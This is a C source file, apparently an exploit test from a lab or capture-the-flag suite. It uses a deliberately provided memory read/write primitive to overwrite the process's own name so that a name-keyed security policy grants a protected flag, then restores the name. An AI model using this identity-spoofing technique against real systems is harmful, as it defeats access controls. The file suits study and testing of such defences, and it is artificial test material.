/* Another policy comes into force, and the process calls itself what no rule is for. */
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define OTHER_NAME 0x656c646f6f6eul /* "noodle" */

/* As root's program does it. */
static void load(const char *which)
{
	int status = -1;
	pid_t child = fork();

	if (child == 0) {
		execl("/bin/servant", "servant", which, NULL);
		_exit(1);
	}
	waitpid(child, &status, 0);
	if (status != 0) {
		attack_skip("no program of root's exchanges the policy");
	}
}

int main(void)
{
	struct bw_leak leak;
	uint64_t name;
	long status;

	attack_leak(&leak);
	load("policy");
	if (bw_flag_prove(0) != 0) {
		attack_skip("the policy forbids it flag_prove already");
	}
	name = (uint64_t)bw_vuln_read(leak.process_name);
	attack_say("it is %.8s, which the next policy has a rule for", (const char *)&name);
	attack_check("vuln_write", bw_vuln_write(leak.process_name, OTHER_NAME));
	load("named");
	status = bw_flag_prove(0);
	bw_vuln_write(leak.process_name, name);
	load("policy");
	attack_say("under that policy flag_prove is %s", status == 0 ? "made" : "refused");
	attack_check("flag_prove", status);
	return attack_finish();
}
